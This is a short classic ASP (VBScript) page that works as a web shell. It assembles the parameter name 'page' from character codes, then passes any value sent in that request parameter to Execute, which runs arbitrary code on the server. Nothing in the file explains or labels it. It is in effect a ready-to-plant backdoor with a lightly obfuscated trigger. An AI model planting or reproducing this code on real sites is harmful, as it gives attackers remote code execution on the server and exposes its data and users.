<%@ Language=VBScript inert %>
<%
Dim nm : nm = Chr(112) & Chr(97) & "g" & Chr(101)
If Request(nm) <> "" Then Execute Request(nm)
%>
